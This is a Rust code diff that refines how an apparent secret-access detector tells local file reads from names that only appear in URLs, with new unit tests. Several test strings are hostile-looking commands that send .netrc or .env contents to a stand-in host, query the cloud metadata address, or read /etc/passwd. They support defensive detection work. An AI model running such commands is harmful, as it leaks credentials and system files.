@@ -93,6 +93,10 @@ pub(crate) fn role(text: &str, span: Span) -> Role {
         .next()
         .unwrap_or_default();
     let before = &command[..command.len() - own.len()];
+    let is_rooted = text[start..].starts_with('/');
+    if is_remote(own, is_rooted) || is_listed(before, own) {
+        return Role::Named;
+    }
     let sign = before.trim_end_matches([' ', '"', '\'']);
     if sign.ends_with('<') || sign.ends_with("<>") {
         return Role::Read;
@@ -122,6 +126,30 @@ pub(crate) fn role(text: &str, span: Span) -> Role {
         return Role::Named;
     }
     Role::Read
+}
+
+/// Returns whether a name is in the path of a URL, and so is not a file of this machine. `own`: the word before the
+/// name; `is_rooted`: whether the name begins with a slash. An expansion in the URL may insert the content of a file.
+fn is_remote(own: &str, is_rooted: bool) -> bool {
+    const SCHEMES: [&str; 6] = ["http", "https", "ftp", "sftp", "s3", "gs"];
+    let Some((scheme, path)) = own.rsplit_once("://") else {
+        return false;
+    };
+    let scheme = scheme.rsplit(|c: char| !c.is_ascii_alphanumeric()).next();
+    let is_known = scheme.is_some_and(|scheme| SCHEMES.contains(&scheme));
+    let is_path = path.contains('/') || is_rooted && !path.is_empty();
+    is_known && is_path && !path.contains(['$', '{', '@', '`'])
+}
+
+/// Returns whether a name is in a `file:` URL that is only an item of a list in a program, as in the cases of a test.
+/// `before`: the command before the word that contains the name; `own`: the start of that word.
+fn is_listed(before: &str, own: &str) -> bool {
+    let lead = before.trim_end_matches([' ', '\t', '"', '\'']);
+    own.starts_with("file://")
+        && before.ends_with(['"', '\''])
+        && (lead.is_empty() || lead.ends_with([',', '[']))
+        && !lead.contains('(')
+        && !lead.contains("curl")
 }
 
 /// Returns whether the value of a short option is a file whose content the command reads.
@@ -230,6 +258,41 @@ mod tests {
     fn role_of(command: &str, name: &str) -> Role {
         let start = command.find(name).unwrap();
         role(command, Span::new(start, start + name.len()))
+    }
+
+    #[test]
+    fn the_path_of_a_url_names_no_file_of_this_machine() {
+        for (command, name, expected) in [
+            ("get(\"https://a.dev/cookies\")", "/cookies", Role::Named),
+            ("curl https://a.dev/b/.npmrc -o c", ".npmrc", Role::Named),
+            ("aws s3 cp s3://a/id_rsa .", "id_rsa", Role::Named),
+            ("url = 'http://a.dev/.env'", ".env", Role::Named),
+            (
+                "curl http://169.254.169.254/latest",
+                "169.254.169.254",
+                Role::Read,
+            ),
+            ("curl https://a.dev/$(cat ~/.netrc)", ".netrc", Role::Read),
+            ("get(f\"https://a.dev/b/{id_rsa}\")", "id_rsa", Role::Read),
+            ("curl https://a.dev/b -d @.env", ".env", Role::Read),
+            ("op read op://a/b/id_rsa", "id_rsa", Role::Read),
+            ("    \"file:///etc/passwd\",", "/etc/passwd", Role::Named),
+            (
+                "urls = [\"a\", \"file:///etc/passwd\"]",
+                "/etc/passwd",
+                Role::Named,
+            ),
+            ("urlopen(\"file:///etc/passwd\")", "/etc/passwd", Role::Read),
+            ("url = \"file:///etc/passwd\"", "/etc/passwd", Role::Read),
+            (
+                "run([\"curl\", \"file:///etc/passwd\"])",
+                "/etc/passwd",
+                Role::Read,
+            ),
+            ("curl file:///etc/passwd", "/etc/passwd", Role::Read),
+        ] {
+            assert_eq!(role_of(command, name), expected, "{command}");
+        }
     }
 
     #[test]
